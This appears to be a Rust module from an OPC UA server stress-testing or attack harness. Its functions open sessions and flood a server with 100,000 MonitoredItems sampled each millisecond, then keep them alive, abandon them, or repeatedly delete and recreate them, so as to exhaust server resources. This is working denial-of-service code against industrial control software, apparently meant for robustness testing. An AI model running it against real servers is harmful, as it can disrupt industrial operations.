//! Subscriptions of many MonitoredItems: kept, left behind, and deleted repeatedly.

use std::time::Duration;

use takt_ua::enumerations::{MonitoringMode, TimestampsToReturn};
use takt_ua::structures::*;
use takt_ua::{NodeId, ids};

use crate::channel::{Lost, PATIENCE, Session, Way};
use crate::request;
use crate::target::Attacker;
use crate::walking::browse_request;

/// Number of requests, each with a tenth of the items.
const REQUESTS: usize = 10;

/// Creates 100 000 MonitoredItems, sampled each millisecond. The attacker never asks for the values.
pub(crate) fn keep(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut session = Session::open(attacker, Way::Tcp)?;
    monitor(attacker, &mut session)?;
    while attacker.goes_on() {
        // This request keeps the Session in use.
        let message = browse_request(session.header(), ids::SERVER, 1, 1);
        session.channel.push(attacker, &message)?;
        session.channel.receive(attacker, PATIENCE)?;
        attacker.wait(Duration::from_millis(200));
    }
    Ok(())
}

/// Creates the same number of items and leaves them behind with their Session, without CloseSession.
pub(crate) fn abandon(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut session = Session::open(attacker, Way::Tcp)?;
    monitor(attacker, &mut session)?;
    drop(session);
    attacker.hold();
    Ok(())
}

/// Creates the same number of items and deletes them with their Subscription, repeatedly.
pub(crate) fn delete(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut session = Session::open(attacker, Way::Tcp)?;
    while attacker.goes_on() {
        let request = DeleteSubscriptionsRequest {
            subscription_ids: vec![monitor(attacker, &mut session)?],
            request_header: session.header(),
        };
        let _: DeleteSubscriptionsResponse = session.channel.call(attacker, &request)?;
    }
    Ok(())
}

/// Creates the same number of items and deletes them with their Session, repeatedly.
pub(crate) fn close(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    while attacker.goes_on() {
        let mut session = Session::open(attacker, Way::Tcp)?;
        monitor(attacker, &mut session)?;
        let request = CloseSessionRequest {
            request_header: session.header(),
            delete_subscriptions: true,
        };
        let _: CloseSessionResponse = session.channel.call(attacker, &request)?;
    }
    Ok(())
}

/// Creates a Subscription of 100 000 MonitoredItems and returns its id.
fn monitor(attacker: &mut Attacker<'_>, session: &mut Session) -> Result<u32, Lost> {
    let subscription_id = session.subscribe(attacker)?;
    let item = |handle: usize| MonitoredItemCreateRequest {
        item_to_monitor: ReadValueId {
            node_id: NodeId::numeric(0, ids::SERVER_SERVER_STATUS_CURRENT_TIME),
            attribute_id: 13,
            ..ReadValueId::default()
        },
        monitoring_mode: MonitoringMode::Reporting,
        requested_parameters: MonitoringParameters {
            client_handle: u32::try_from(handle).unwrap_or_default(),
            sampling_interval: 1.0,
            queue_size: 10,
            discard_oldest: true,
            ..MonitoringParameters::default()
        },
    };
    let request = CreateMonitoredItemsRequest {
        request_header: session.header(),
        subscription_id,
        timestamps_to_return: TimestampsToReturn::Both,
        items_to_create: (0..attacker.count(100_000 / REQUESTS)).map(item).collect(),
    };
    let message = request::message(&request);
    for _ in 0..REQUESTS {
        session.channel.push(attacker, &message)?;
        session.channel.receive(attacker, PATIENCE)?;
    }
    Ok(subscription_id)
}
